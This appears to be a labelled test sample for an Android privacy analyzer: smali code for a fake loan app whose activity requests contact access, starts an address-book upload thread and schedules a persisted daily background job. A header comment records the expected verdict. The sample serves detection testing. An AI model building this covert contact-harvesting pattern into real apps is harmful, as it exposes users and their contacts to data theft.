# Sample "upload": sends the whole address book to a server.
#
# The activity asks for READ_CONTACTS, then starts a thread that reads all phone
# numbers and posts them; a periodic job does the same without the user.
#
# Verdict on contacts: uploads. The query names the collection Phone.CONTENT_URI
# (bulk), the permission is declared, and the rows reach the output stream of an
# HttpURLConnection. Call log and SMS: none.
# Trigger: background, since the job starts it too. The shortest path comes from
# the job; the one from this activity is one step longer.
.class public final Lorg/example/loan/upload/MainActivity;
.super Landroid/app/Activity;
.source "MainActivity.java"


.method public constructor <init>()V
    .registers 1

    .line 14
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V

    return-void
.end method

.method private scheduleJob()V
    .registers 5

    .line 41
    new-instance v0, Landroid/app/job/JobInfo$Builder;

    new-instance v1, Landroid/content/ComponentName;

    const-class v2, Lorg/example/loan/upload/SyncJob;

    invoke-direct {v1, p0, v2}, Landroid/content/ComponentName;-><init>(Landroid/content/Context;Ljava/lang/Class;)V

    const/4 v2, 0x1

    invoke-direct {v0, v2, v1}, Landroid/app/job/JobInfo$Builder;-><init>(ILandroid/content/ComponentName;)V

    .line 42
    const-wide/32 v2, 0x5265c00

    invoke-virtual {v0, v2, v3}, Landroid/app/job/JobInfo$Builder;->setPeriodic(J)Landroid/app/job/JobInfo$Builder;

    move-result-object v0

    const/4 v1, 0x1

    .line 43
    invoke-virtual {v0, v1}, Landroid/app/job/JobInfo$Builder;->setPersisted(Z)Landroid/app/job/JobInfo$Builder;

    move-result-object v0

    .line 44
    invoke-virtual {v0}, Landroid/app/job/JobInfo$Builder;->build()Landroid/app/job/JobInfo;

    move-result-object v0

    .line 45
    const-class v1, Landroid/app/job/JobScheduler;

    invoke-virtual {p0, v1}, Lorg/example/loan/upload/MainActivity;->getSystemService(Ljava/lang/Class;)Ljava/lang/Object;

    move-result-object v1

    check-cast v1, Landroid/app/job/JobScheduler;

    invoke-virtual {v1, v0}, Landroid/app/job/JobScheduler;->schedule(Landroid/app/job/JobInfo;)I

    return-void
.end method

.method private startUpload()V
    .registers 3

    .line 36
    new-instance v0, Ljava/lang/Thread;

    new-instance v1, Lorg/example/loan/upload/AddressBookTask;

    invoke-direct {v1, p0}, Lorg/example/loan/upload/AddressBookTask;-><init>(Landroid/content/Context;)V

    invoke-direct {v0, v1}, Ljava/lang/Thread;-><init>(Ljava/lang/Runnable;)V

    invoke-virtual {v0}, Ljava/lang/Thread;->start()V

    .line 37
    invoke-direct {p0}, Lorg/example/loan/upload/MainActivity;->scheduleJob()V

    return-void
.end method


.method protected onCreate(Landroid/os/Bundle;)V
    .registers 5

    .line 18
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V

    .line 19
    new-instance v0, Landroid/widget/TextView;

    invoke-direct {v0, p0}, Landroid/widget/TextView;-><init>(Landroid/content/Context;)V

    .line 20
    const-string v1, "Pinjaman cair dalam 5 menit"

    invoke-virtual {v0, v1}, Landroid/widget/TextView;->setText(Ljava/lang/CharSequence;)V

    .line 21
    invoke-virtual {p0, v0}, Lorg/example/loan/upload/MainActivity;->setContentView(Landroid/view/View;)V

    .line 22
    const-string v0, "android.permission.READ_CONTACTS"

    invoke-virtual {p0, v0}, Lorg/example/loan/upload/MainActivity;->checkSelfPermission(Ljava/lang/String;)I

    move-result v1

    if-eqz v1, :cond_28

    const/4 v1, 0x1

    .line 23
    new-array v1, v1, [Ljava/lang/String;

    const/4 v2, 0x0

    aput-object v0, v1, v2

    const/4 v0, 0x7

    invoke-virtual {p0, v1, v0}, Lorg/example/loan/upload/MainActivity;->requestPermissions([Ljava/lang/String;I)V

    return-void

    .line 25
    :cond_28
    invoke-direct {p0}, Lorg/example/loan/upload/MainActivity;->startUpload()V

    return-void
.end method

.method public onRequestPermissionsResult(I[Ljava/lang/String;[I)V
    .registers 5

    .line 30
    array-length p1, p3

    if-lez p1, :cond_b

    const/4 p1, 0x0

    aget p1, p3, p1

    if-nez p1, :cond_b

    .line 31
    invoke-direct {p0}, Lorg/example/loan/upload/MainActivity;->startUpload()V

    :cond_b
    return-void
.end method
